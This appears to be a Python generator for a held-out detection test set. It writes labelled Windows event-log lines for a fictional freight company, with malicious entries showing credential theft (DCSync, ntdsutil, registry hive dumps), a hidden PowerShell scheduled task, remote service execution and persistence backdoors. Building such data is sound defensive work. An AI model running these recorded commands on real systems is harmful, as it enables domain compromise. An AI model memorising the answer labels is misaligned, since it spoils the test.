#!/usr/bin/env python3
"""Deterministic generator of seen-heldout-2.jsonl (held-out set 2): `python3 generate_heldout.py` rewrites it.

Estate: Ravenmoor Freight & Cold Chain ("RVM", AD domain rvm.internal), written by hand apart from the rules.
The rules' authors must not read this file or seen-heldout-2.jsonl.
"""
import base64
import datetime as dt
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = []


def M(src, line, tech, note):
    OUT.append({"source": src, "line": line, "malicious": True, "technique": tech, "note": note})


def B(src, line, note):
    OUT.append({"source": src, "line": line, "malicious": False, "technique": None, "note": note})


def J(o):
    return json.dumps(o, separators=(",", ":"))


def T(day, h, m, s, ms=0):
    return dt.datetime(2026, 11, day, h, m, s, ms * 1000, tzinfo=dt.timezone.utc)


def iso(t, frac=3):
    if frac == 0:
        return t.strftime("%Y-%m-%dT%H:%M:%SZ")
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}"[:frac] + "Z"


def b3164(t):
    return t.strftime("%b ") + f"{t.day:2d}" + t.strftime(" %H:%M:%S")


def hexs(s):
    return s.encode().hex().upper()


def ps_enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


SEC_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"


def winxml(eid, comp, t, data, rec, provider="Microsoft-Windows-Security-Auditing", guid=SEC_GUID, channel="Security",
           task=12544, kw="0x8020000000000000", ver=0, pid=708, tid=1844, level=0):
    d = "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in data.items())
    g = f" Guid='{guid}'" if guid else ""
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}'{g}/>"
            f"<EventID>{eid}</EventID><Version>{ver}</Version><Level>{level}</Level><Task>{task}</Task><Opcode>0</Opcode>"
            f"<Keywords>{kw}</Keywords><TimeCreated SystemTime='{t.strftime('%Y-%m-%dT%H:%M:%S.')}{t.microsecond:06d}0Z'/>"
            f"<EventRecordID>{rec}</EventRecordID><Correlation/><Execution ProcessID='{pid}' ThreadID='{tid}'/>"
            f"<Channel>{channel}</Channel><Computer>{comp}</Computer><Security/></System><EventData>{d}</EventData></Event>")


def ecs_win(eid, comp, t, data, action, outcome="success", provider="Microsoft-Windows-Security-Auditing",
            channel="Security", rec=0, extra=None):
    o = {"@timestamp": iso(t), "agent": {"type": "filebeat", "version": "8.15.3", "name": comp.split(".")[0]},
         "ecs": {"version": "8.11.0"}, "event": {"code": str(eid), "provider": provider, "action": action,
         "outcome": outcome, "kind": "event", "module": "windows"}, "host": {"name": comp.lower()},
         "winlog": {"channel": channel, "computer_name": comp, "event_id": str(eid), "provider_name": provider,
         "record_id": rec, "event_data": data}, "data_stream": {"dataset": "system.security", "namespace": "rvm"}}
    if extra:
        o.update(extra)
    return J(o)


def splunk_win(t, eid, comp, rec, cat, msg, kw="Audit Success", logname="Security",
               srcname="Microsoft Windows security auditing.", etype=0, typ="Information"):
    return (t.strftime("%m/%d/%Y %I:%M:%S %p") + f" LogName={logname} EventCode={eid} EventType={etype} ComputerName={comp} "
            f"SourceName={srcname} Type={typ} RecordNumber={rec} Keywords={kw} TaskCategory={cat} OpCode=Info "
            f"Message={msg}")


def nxlog(t, comp, eid, rec, fields, msg, etype="AUDIT_SUCCESS", src="Microsoft-Windows-Security-Auditing",
          channel="Security", task=12544):
    o = {"EventTime": t.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": comp, "Keywords": -9214364837600034816 if etype == "AUDIT_SUCCESS" else -9218868437227405312,
         "EventType": etype, "SeverityValue": 2 if etype != "AUDIT_FAILURE" else 4, "Severity": "INFO" if etype != "AUDIT_FAILURE" else "ERROR",
         "EventID": eid, "SourceName": src, "Task": task, "RecordNumber": rec, "ProcessID": 4, "ThreadID": 5120,
         "Channel": channel}
    o.update(fields)
    o.update({"Message": msg, "EventReceivedTime": (t + dt.timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M:%S"),
              "SourceModuleName": "in_winsec", "SourceModuleType": "im_msvistalog"})
    return J(o)


def snare(t, comp, channel, rec, eid, src, user, sidtype, etype, cat, msg, crit=1):
    return "\t".join([f"<13>{b3164(t)} {comp}", "MSWinEventLog", str(crit), channel, str(rec),
                      t.strftime("%a %b %d %H:%M:%S %Y"), str(eid), src, user, sidtype, etype, comp, cat, "", msg,
                      str(rec % 9000 + 17)])
# ---------------------------------------------------------------- windows-security
S = "windows-security"
DC = "RVMDC3.rvm.internal"
# brute force against one account over RDP gateway, ECS JSON, 6 lines
for i in range(5):
    t = T(23, 2, 41, 7 + i * 3, 120 + i * 37)
    M(S, ecs_win(4625, "RVM-RDS-02.rvm.internal", t, {"TargetUserName": "administrator", "TargetDomainName": "RVM",
      "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": "10", "IpAddress": "91.240.118.52",
      "IpPort": str(51022 + i * 7), "WorkstationName": "kali", "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
      "FailureReason": "%%2313"}, "logon-failed", "failure", rec=8812201 + i),
      "T1110.001", "RDP password guessing burst on administrator from an external host named kali")
B(S, winxml(4624, "RVM-LAP-1187.rvm.internal", T(23, 7, 58, 12, 311), {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "RVM-LAP-1187$",
  "TargetUserName": "w.lindqvist", "TargetDomainName": "RVM", "LogonType": "2", "LogonProcessName": "User32 ",
  "AuthenticationPackageName": "Negotiate", "WorkstationName": "RVM-LAP-1187", "IpAddress": "127.0.0.1", "IpPort": "0",
  "ElevatedToken": "%%1843"}, 220331, task=12544), "interactive morning logon at the user's own laptop")
B(S, snare(T(23, 8, 4, 51), "RVM-LAP-0950", "Security", 99142, 4625, "Microsoft-Windows-Security-Auditing", "N/A", "N/A",
  "Failure Audit", "Logon", "An account failed to log on.    Subject:   Security ID:  S-1-5-18   Account Name:  RVM-LAP-0950$   Account Domain:  RVM    Logon Type:   7    Account For Which Logon Failed:   Account Name:  e.achterberg   Account Domain:  RVM    Failure Information:   Failure Reason:  Unknown user name or bad password.   Status:   0xC000006D   Sub Status:  0xC000006A    Network Information:   Workstation Name: RVM-LAP-0950   Source Network Address: 127.0.0.1"),
  "single mistyped password when unlocking a laptop")
M(S, splunk_win(T(23, 11, 20, 45), 4769, DC, 5510291, "Kerberos Service Ticket Operations",
  "A Kerberos service ticket was requested.  Account Information: Account Name: p.ruiz@RVM.INTERNAL Account Domain: RVM.INTERNAL Logon GUID: {3c1a4b7e-0d55-2b1f-9e2a-81e06d4fa3c2}  Service Information: Service Name: svc_sqlrpt Service ID: RVM\\svc_sqlrpt  Network Information: Client Address: ::ffff:10.212.31.88 Client Port: 50771  Additional Information: Ticket Options: 0x40810000 Ticket Encryption Type: 0x17 Failure Code: 0x0 Transited Services: -"),
  "T1558.003", "RC4 (0x17) service ticket for a SQL service account requested from a workstation - Kerberoasting")
B(S, splunk_win(T(23, 11, 21, 2), 4769, DC, 5510307, "Kerberos Service Ticket Operations",
  "A Kerberos service ticket was requested.  Account Information: Account Name: RVM-LAP-1187$@RVM.INTERNAL Account Domain: RVM.INTERNAL Logon GUID: {9a0d4e11-77c3-1d0a-5be1-0c6f3e92ab10}  Service Information: Service Name: RVM-FS-01$ Service ID: RVM\\RVM-FS-01$  Network Information: Client Address: ::ffff:10.212.31.40 Client Port: 61204  Additional Information: Ticket Options: 0x40810000 Ticket Encryption Type: 0x12 Failure Code: 0x0 Transited Services: -"),
  "ordinary AES service ticket for a file server")
M(S, winxml(4662, DC, T(23, 13, 2, 19, 844), {"SubjectUserSid": "S-1-5-21-3308419210-1822710947-255119034-4471",
  "SubjectUserName": "b.ostrowski", "SubjectDomainName": "RVM", "SubjectLogonId": "0x1b2fa9e1", "ObjectServer": "DS",
  "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "ObjectName": "%{5f1e7c2a-0d0a-4b8e-9c1a-2b7d0e4c5a11}",
  "OperationType": "Object Access", "HandleId": "0x0", "AccessList": "%%7688", "AccessMask": "0x100",
  "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"}, 77120931, task=14080),
  "T1003.006", "DS-Replication-Get-Changes-All exercised by a regular user account, not a DC - DCSync")
B(S, winxml(4662, DC, T(23, 13, 5, 0, 12), {"SubjectUserSid": "S-1-5-21-3308419210-1822710947-255119034-1105",
  "SubjectUserName": "RVMDC4$", "SubjectDomainName": "RVM", "SubjectLogonId": "0x3e4a1", "ObjectServer": "DS",
  "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "ObjectName": "%{5f1e7c2a-0d0a-4b8e-9c1a-2b7d0e4c5a11}",
  "OperationType": "Object Access", "HandleId": "0x0", "AccessList": "%%7688", "AccessMask": "0x100",
  "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"}, 77121004, task=14080),
  "replication right used by the partner domain controller RVMDC4 - normal AD replication")
# AS-REP roasting: 4768 without pre-auth
M(S, nxlog(T(23, 14, 7, 33), DC, 4768, 5512877, {"TargetUserName": "k.haddad", "TargetDomainName": "RVM.INTERNAL",
  "ServiceName": "krbtgt", "TicketOptions": "0x40800010", "Status": "0x0", "TicketEncryptionType": "0x17",
  "PreAuthType": "0", "IpAddress": "::ffff:10.212.44.19", "IpPort": "49881"},
  "A Kerberos authentication ticket (TGT) was requested. Pre-Authentication Type: 0 Ticket Encryption Type: 0x17", task=14339),
  "T1558.004", "TGT issued with pre-authentication type 0 and RC4 - AS-REP roasting of an account without preauth")
B(S, nxlog(T(23, 14, 9, 1), DC, 4768, 5512940, {"TargetUserName": "f.osei", "TargetDomainName": "RVM.INTERNAL",
  "ServiceName": "krbtgt", "TicketOptions": "0x40810010", "Status": "0x0", "TicketEncryptionType": "0x12",
  "PreAuthType": "2", "IpAddress": "::ffff:10.212.33.71", "IpPort": "52114"},
  "A Kerberos authentication ticket (TGT) was requested. Pre-Authentication Type: 2 Ticket Encryption Type: 0x12", task=14339),
  "normal TGT with encrypted-timestamp pre-authentication")
# Kerberos pre-auth spray 4771 across accounts from one internal host (6 lines)
for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
    t = T(24, 1, 12, 4 + i * 2)
    M(S, splunk_win(t, 4771, DC, 5540110 + i * 3, "Kerberos Authentication Service",
      f"Kerberos pre-authentication failed.  Account Information: Security ID: RVM\\{u} Account Name: {u}  Service Information: Service Name: krbtgt/RVM.INTERNAL  Network Information: Client Address: ::ffff:10.212.61.203 Client Port: {50120 + i}  Additional Information: Ticket Options: 0x40810010 Failure Code: 0x18 Pre-Authentication Type: 2",
      kw="Audit Failure", etype=0),
      "T1110.003", "one host fails Kerberos pre-auth (0x18) for many accounts within seconds - password spraying")
M(S, winxml(4720, DC, T(24, 2, 30, 41, 5), {"TargetUserName": "svc_mssql_hlt", "TargetDomainName": "RVM",
  "TargetSid": "S-1-5-21-3308419210-1822710947-255119034-9931", "SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
  "SubjectLogonId": "0x5fa2e01", "SamAccountName": "svc_mssql_hlt", "DisplayName": "%%1793", "UserPrincipalName": "-",
  "UserAccountControl": "%%2080 %%2082 %%2084"}, 77130022, task=13824),
  "T1136.002", "domain account created at 02:30 by the account that was just AS-REP roasted, named to look like a service")
M(S, winxml(4728, DC, T(24, 2, 31, 3, 77), {"MemberName": "CN=svc_mssql_hlt,OU=Service,DC=rvm,DC=internal",
  "MemberSid": "S-1-5-21-3308419210-1822710947-255119034-9931", "TargetUserName": "Domain Admins", "TargetDomainName": "RVM",
  "TargetSid": "S-1-5-21-3308419210-1822710947-255119034-512", "SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
  "PrivilegeList": "-"}, 77130029, task=13826),
  "T1098.007", "the new account is added to Domain Admins by the same non-admin user")
B(S, winxml(4720, DC, T(24, 9, 12, 50, 400), {"TargetUserName": "n.achebe", "TargetDomainName": "RVM",
  "TargetSid": "S-1-5-21-3308419210-1822710947-255119034-9944", "SubjectUserName": "svc_sailpoint_prov", "SubjectDomainName": "RVM",
  "SubjectLogonId": "0x91aa02", "SamAccountName": "n.achebe", "DisplayName": "Nkem Achebe", "UserPrincipalName": "n.achebe@ravenmoor.eu",
  "UserAccountControl": "%%2080"}, 77134410, task=13824),
  "new hire created by the identity-governance provisioning account in office hours")
B(S, winxml(4732, "RVM-SQL-07.rvm.internal", T(24, 9, 40, 2, 90), {"MemberName": "-", "MemberSid": "S-1-5-21-3308419210-1822710947-255119034-6120",
  "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserName": "adm-hnakamura",
  "SubjectDomainName": "RVM", "PrivilegeList": "-"}, 1920331, task=13826),
  "DBA team group (SID ...-6120) added to the local admins of its SQL server by a tier-1 admin account")
M(S, splunk_win(T(24, 3, 3, 10), 4698, "RVM-LAP-0712.rvm.internal", 4410981, "Other Object Access Events",
  "A scheduled task was created.  Subject: Security ID: RVM\\r.iyer Account Name: r.iyer Account Domain: RVM Logon ID: 0x2C91D0  Task Information: Task Name: \\Microsoft\\Windows\\WDI\\SrvHost  Task Content: <?xml version=\"1.0\" encoding=\"UTF-16\"?> <Task version=\"1.2\"> <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers> <Actions Context=\"Author\"><Exec><Command>C:\\Windows\\System32\\conhost.exe</Command><Arguments>--headless powershell -w h -nop -ep bypass -c \"iex(gc $env:APPDATA\\Microsoft\\wdi.dat -raw)\"</Arguments></Exec></Actions></Task>"),
  "T1053.005", "logon task hidden under a Microsoft-looking path that runs a script from AppData through headless conhost")
B(S, splunk_win(T(24, 10, 15, 0), 4698, "RVM-LAP-0712.rvm.internal", 4411520, "Other Object Access Events",
  "A scheduled task was created.  Subject: Security ID: NT AUTHORITY\\SYSTEM Account Name: RVM-LAP-0712$ Account Domain: RVM Logon ID: 0x3E7  Task Information: Task Name: \\Microsoft\\Office\\Office Automatic Updates 2.0  Task Content: <?xml version=\"1.0\" encoding=\"UTF-16\"?> <Task version=\"1.2\"> <Actions Context=\"Author\"><Exec><Command>C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe</Command><Arguments>/frequentupdate SCHEDULEDTASK displaylevel=False</Arguments></Exec></Actions></Task>"),
  "Office Click-to-Run update task registered by SYSTEM")
M(S, nxlog(T(24, 3, 20, 55), "RVM-FS-01.rvm.internal", 4697, 3381204, {"SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
  "ServiceName": "wTqzKpLm", "ServiceFileName": "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
  "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem"},
  "A service was installed in the system.", task=12289),
  "T1569.002", "random-named service whose binary is an echo-to-batch command line - smbexec-style remote execution")
B(S, nxlog(T(24, 11, 2, 7), "RVM-FS-01.rvm.internal", 4697, 3381900, {"SubjectUserName": "RVM-FS-01$", "SubjectDomainName": "RVM",
  "ServiceName": "VeeamDeploySvc", "ServiceFileName": "C:\\Windows\\Veeam\\Backup\\VeeamDeploymentSvc.exe",
  "ServiceType": "0x10", "ServiceStartType": "2", "ServiceAccount": "LocalSystem"},
  "A service was installed in the system.", task=12289),
  "Veeam deployment service pushed by the backup server")
M(S, winxml(1102, "RVM-FS-01.rvm.internal", T(24, 3, 41, 9, 2), {}, 3381377, provider="Microsoft-Windows-Eventlog",
  guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", task=104, kw="0x4020000000000000", level=4).replace(
  "<EventData></EventData>", "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-3308419210-1822710947-255119034-4471</SubjectUserSid><SubjectUserName>k.haddad</SubjectUserName><SubjectDomainName>RVM</SubjectDomainName><SubjectLogonId>0x5fa2e01</SubjectLogonId></LogFileCleared></UserData>"),
  "T1070.001", "Security log cleared on the file server by the compromised account")
M(S, ecs_win(4624, "RVM-SQL-07.rvm.internal", T(24, 3, 5, 44, 610), {"TargetUserName": "adm-hnakamura", "TargetDomainName": "RVM",
  "LogonType": "9", "LogonProcessName": "seclogo", "AuthenticationPackageName": "Negotiate", "SubjectUserName": "r.iyer",
  "TargetOutboundUserName": "adm-hnakamura", "TargetOutboundDomainName": "RVM", "IpAddress": "::1", "IpPort": "0",
  "ProcessName": "C:\\Windows\\System32\\svchost.exe"}, "logged-in", rec=1922001),
  "T1550.002", "logon type 9 via seclogo with a different outbound user - NewCredentials token as used by pass-the-hash tools")
B(S, ecs_win(4624, "RVM-SQL-07.rvm.internal", T(24, 10, 2, 4, 77), {"TargetUserName": "svc-tenable-scan", "TargetDomainName": "RVM",
  "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "LmPackageName": "NTLM V2",
  "IpAddress": "10.212.250.11", "IpPort": "41022", "WorkstationName": "VSCAN-01"}, "logged-in", rec=1922407),
  "credentialed Tenable Nessus scan logon from the approved scanner VSCAN-01 (10.212.250.11)")
M(S, winxml(5136, DC, T(24, 4, 0, 2, 501), {"OpCorrelationID": "{a2f0c1d3-9e1b-4b3e-8a77-1f0a6c2e5d90}",
  "SubjectUserName": "k.haddad", "SubjectDomainName": "RVM", "DSName": "rvm.internal", "DSType": "%%14676",
  "ObjectDN": "CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=POLICIES,CN=SYSTEM,DC=RVM,DC=INTERNAL",
  "ObjectClass": "groupPolicyContainer", "AttributeLDAPDisplayName": "gPCMachineExtensionNames",
  "AttributeValue": "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
  "OperationType": "%%14674"}, 77140212, task=14081),
  "T1484.001", "immediate scheduled-task extension added to the Default Domain Controllers Policy at 04:00 by a non-admin")
B(S, winxml(5136, DC, T(24, 14, 30, 12, 9), {"OpCorrelationID": "{0e4d1a77-6c21-4f0b-9a13-7bd1a2e0c4f8}",
  "SubjectUserName": "adm-t.okonkwo", "SubjectDomainName": "RVM", "DSName": "rvm.internal", "DSType": "%%14676",
  "ObjectDN": "CN={4B7E2D10-9C3A-4F51-8E2D-77A1C0B3E6F2},CN=POLICIES,CN=SYSTEM,DC=RVM,DC=INTERNAL",
  "ObjectClass": "groupPolicyContainer", "AttributeLDAPDisplayName": "versionNumber", "AttributeValue": "65548",
  "OperationType": "%%14674"}, 77142200, task=14081),
  "GPO version bump by a GPO admin during the change window (CHG-20931 screen-lock policy)")
M(S, splunk_win(T(24, 4, 12, 30), 4688, DC, 77140877, "Process Creation",
  "A new process has been created.  Creator Subject: Security ID: RVM\\k.haddad Account Name: k.haddad Account Domain: RVM Logon ID: 0x5FA2E01  Target Subject: Security ID: NULL SID  Process Information: New Process ID: 0x1b3c New Process Name: C:\\Windows\\System32\\ntdsutil.exe Token Elevation Type: %%1937 Mandatory Label: Mandatory Label\\High Mandatory Level Creator Process ID: 0x22f0 Creator Process Name: C:\\Windows\\System32\\cmd.exe Process Command Line: ntdsutil  \"ac i ntds\" ifm \"create full C:\\PerfLogs\\x\" q q"),
  "T1003.003", "ntdsutil IFM copy of ntds.dit into PerfLogs on a DC")
M(S, snare(T(24, 4, 15, 2), "RVM-SQL-07", "Security", 1922544, 4688, "Microsoft-Windows-Security-Auditing", "RVM\\adm-hnakamura", "User",
  "Success Audit", "Process Creation", "A new process has been created.    Creator Subject:   Account Name:  adm-hnakamura   Account Domain:  RVM    Process Information:   New Process Name: C:\\Windows\\System32\\reg.exe   Creator Process Name: C:\\Windows\\System32\\cmd.exe   Process Command Line: reg  sAvE  HKLM\\SYSTEM C:\\Users\\Public\\Music\\sy.hiv /y"),
  "T1003.002", "SYSTEM hive saved into a public folder - offline SAM/LSA secret extraction")
B(S, snare(T(24, 9, 31, 40), "RVM-SQL-07", "Security", 1922390, 4688, "Microsoft-Windows-Security-Auditing", "RVM\\adm-hnakamura", "User",
  "Success Audit", "Process Creation", "A new process has been created.    Creator Subject:   Account Name:  adm-hnakamura   Account Domain:  RVM    Process Information:   New Process Name: C:\\Windows\\System32\\whoami.exe   Creator Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe   Process Command Line: \"C:\\Windows\\system32\\whoami.exe\" /groups"),
  "admin checking her own group membership in an interactive PowerShell session")
B(S, splunk_win(T(24, 22, 0, 5), 4688, "RVM-FS-01.rvm.internal", 3382611, "Process Creation",
  "A new process has been created.  Creator Subject: Security ID: RVM\\svc_wbackup Account Name: svc_wbackup Account Domain: RVM Logon ID: 0x7A1100  Process Information: New Process ID: 0x2a10 New Process Name: C:\\Windows\\System32\\wbadmin.exe Token Elevation Type: %%1936 Creator Process Name: C:\\Windows\\System32\\taskeng.exe Process Command Line: wbadmin start backup -backupTarget:\\\\rvm-nas-02\\wsb$ -include:D: -vssFull -quiet"),
  "nightly Windows Server Backup of D: run by the backup service account")
B(S, splunk_win(T(24, 9, 47, 30), 4688, "RVM-FS-01.rvm.internal", 3382002, "Process Creation",
  "A new process has been created.  Creator Subject: Security ID: RVM\\adm-t.okonkwo Account Name: adm-t.okonkwo Account Domain: RVM Logon ID: 0x8C21F0  Process Information: New Process ID: 0x1f08 New Process Name: C:\\Windows\\System32\\vssadmin.exe Token Elevation Type: %%1937 Creator Process Name: C:\\Windows\\System32\\cmd.exe Process Command Line: vssadmin  list shadowstorage"),
  "storage admin checking shadow-copy storage use interactively")
B(S, nxlog(T(24, 8, 1, 2), "RVM-LAP-1187.rvm.internal", 4688, 220890, {"SubjectUserName": "RVM-LAP-1187$", "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\SystemTemp\\4e1f0a2b-77c1-4f3d-8a0e-12ab9c0de311.ps1\"",
  "ParentProcessName": "C:\\Windows\\CCM\\CcmExec.exe", "TokenElevationType": "%%1936"},
  "A new process has been created.", task=13312),
  "SCCM client running a configuration-baseline script with ExecutionPolicy Bypass")
B(S, nxlog(T(24, 8, 20, 40), "RVM-LAP-0950.rvm.internal", 4688, 99401, {"SubjectUserName": "RVM-LAP-0950$", "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file  \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\8d2c1a77-0b3e-4f21-9e6a-5c4d3b2a1f00_1.ps1\"",
  "ParentProcessName": "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "TokenElevationType": "%%1936"},
  "A new process has been created.", task=13312),
  "Intune Management Extension platform script run with -executionPolicy bypass")
M(S, ecs_win(4719, "RVM-SQL-07.rvm.internal", T(24, 4, 20, 11, 3), {"SubjectUserName": "RVM-SQL-07$", "SubjectDomainName": "RVM",
  "CategoryId": "%%8274", "SubcategoryId": "%%12800", "SubcategoryGuid": "{0CCE921D-69AE-11D9-BED3-505054503030}",
  "AuditPolicyChanges": "%%8448, %%8450"}, "changed-audit-config", rec=1922560),
  "T1562.002", "success and failure auditing removed from the Detailed Tracking / process creation subcategory with auditpol")
M(S, winxml(4794, DC, T(24, 4, 25, 37, 2), {"SubjectUserSid": "S-1-5-21-3308419210-1822710947-255119034-4471", "SubjectUserName": "k.haddad",
  "SubjectDomainName": "RVM", "SubjectLogonId": "0x5fa2e01", "Workstation": "RVMDC3", "Status": "0x0"}, 77141003, task=13824),
  "T1098", "Directory Services Restore Mode administrator password set - DSRM backdoor")
M(S, nxlog(T(24, 5, 1, 12), "RVM-FS-01.rvm.internal", 5145, 3381502, {"SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
  "ObjectType": "File", "IpAddress": "10.212.61.203", "IpPort": "49702", "ShareName": "\\\\*\\IPC$", "ShareLocalPath": "",
  "RelativeTargetName": "svcctl", "AccessMask": "0x3", "AccessList": "%%4416 %%4417"},
  "A network share object was checked to see whether client can be granted desired access.", task=12811),
  "T1021.002", "service-control pipe opened over IPC$ from the spraying workstation - remote service creation over SMB")
B(S, nxlog(T(24, 9, 10, 18), "RVM-FS-01.rvm.internal", 5145, 3381901, {"SubjectUserName": "f.osei", "SubjectDomainName": "RVM",
  "ObjectType": "File", "IpAddress": "10.212.33.71", "IpPort": "50233", "ShareName": "\\\\*\\Finance", "ShareLocalPath": "\\??\\D:\\Shares\\Finance",
  "RelativeTargetName": "2026\\Q4\\accruals-nov.xlsx", "AccessMask": "0x120089", "AccessList": "%%1537 %%1538 %%1541 %%4416 %%4423"},
  "A network share object was checked to see whether client can be granted desired access.", task=12811),
  "finance user opening a spreadsheet on the finance share")
M(S, winxml(4741, DC, T(25, 1, 55, 3, 330), {"TargetUserName": "WKS-TEMP42$", "TargetDomainName": "RVM",
  "SubjectUserName": "l.virtanen", "SubjectDomainName": "RVM", "SamAccountName": "WKS-TEMP42$", "DnsHostName": "RVMDC3.rvm.internal",
  "ServicePrincipalNames": "-", "UserAccountControl": "%%2087"}, 77150044, task=13825),
  "T1136.002", "ordinary user adds a machine account whose dNSHostName is the DC's - noPac / machine-account-quota abuse")
M(S, winxml(4738, DC, T(25, 2, 10, 44, 71), {"TargetUserName": "b.ostrowski", "TargetDomainName": "RVM", "SubjectUserName": "l.virtanen",
  "SubjectDomainName": "RVM", "UserAccountControl": "%%2096", "OldUacValue": "0x210", "NewUacValue": "0x400210"}, 77150101, task=13824),
  "T1558.004", "'Do not require Kerberos preauthentication' switched on for a user by another user - setting up AS-REP roasting")
B(S, ecs_win(4740, DC, T(25, 8, 44, 10), {"TargetUserName": "s.quinlan", "TargetDomainName": "RVM", "TargetSid": "S-1-5-21-3308419210-1822710947-255119034-5122",
  "SubjectUserName": "RVMDC3$", "CallerComputerName": "RVM-LAP-1320"}, "locked-out-user-account", rec=77151002),
  "one account locked out from its own laptop after the Monday password change - helpdesk ticket")
B(S, ecs_win(4776, DC, T(25, 8, 45, 33), {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": "s.quinlan",
  "Workstation": "RVM-LAP-1320", "Status": "0x0"}, "credential-validated", rec=77151040),
  "successful NTLM validation after the unlock")
B(S, snare(T(25, 9, 5, 12), "RVM-SQL-07", "Security", 1923014, 4648, "Microsoft-Windows-Security-Auditing", "RVM\\svc_veeam", "User",
  "Success Audit", "Logon", "A logon was attempted using explicit credentials.    Subject:   Account Name:  svc_veeam   Account Domain:  RVM    Account Whose Credentials Were Used:   Account Name:  svc_veeam_sql   Account Domain:  RVM    Target Server:   Target Server Name: RVM-SQL-07.rvm.internal    Process Information:   Process Name: C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe    Network Information:   Network Address: 10.212.8.15   Port: 0"),
  "Veeam backup server using its SQL application-aware credentials")
M(S, splunk_win(T(25, 3, 14, 2), 4657, "RVM-LAP-0712.rvm.internal", 4412870, "Registry",
  "A registry value was modified.  Subject: Account Name: r.iyer Account Domain: RVM  Object: Object Name: \\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe Object Value Name: Debugger Operation Type: New registry value created  Process Information: Process Name: C:\\Windows\\System32\\reg.exe  Change Information: Old Value Type: - Old Value: - New Value Type: REG_SZ New Value: C:\\windows\\system32\\cmd.exe"),
  "T1546.008", "IFEO debugger for sethc.exe set to cmd.exe - sticky-keys accessibility backdoor")
# ---------------------------------------------------------------- windows-system
S = "windows-system"
SCM = "{555908d1-a6d7-4695-8e1e-26931d2012f4}"


def svc7045(comp, t, rec, name, path, start="demand start", acct="LocalSystem", fmt="xml"):
    data = {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": start, "AccountName": acct}
    if fmt == "xml":
        return winxml(7045, comp, t, data, rec, provider="Service Control Manager", guid=SCM, channel="System", task=0,
                      kw="0x8080000000000000", level=4, pid=780)
    if fmt == "ecs":
        o = json.loads(ecs_win(7045, comp, t, data, "service-installed", provider="Service Control Manager", channel="System", rec=rec))
        o["data_stream"]["dataset"] = "system.system"
        return J(o)
    return splunk_win(t, 7045, comp, rec, "None", f"A service was installed in the system.  Service Name:  {name}  Service File Name:  {path}  Service Type:  user mode service  Service Start Type:  {start}  Service Account:  {acct}",
                      kw="Classic", logname="System", srcname="Service Control Manager", etype=4)


M(S, svc7045("RVM-LAP-0712.rvm.internal", T(23, 3, 2, 11, 5), 88120, "RTCore64", "\\??\\C:\\Users\\r.iyer\\AppData\\Local\\Temp\\RTCore64.sys", start="auto start").replace("user mode service", "kernel mode driver"),
  "T1068", "MSI Afterburner RTCore64 driver dropped in Temp and loaded as a service - bring-your-own-vulnerable-driver")
M(S, svc7045("RVM-FS-01.rvm.internal", T(23, 3, 20, 50, 900), 41201, "BTOBTO", "%COMSPEC% /C \"cmd.exe /c c:\\windows\\temp\\sv.bat\"", fmt="splunk"),
  "T1569.002", "service whose image path is a cmd.exe one-liner - remote execution through the SCM")
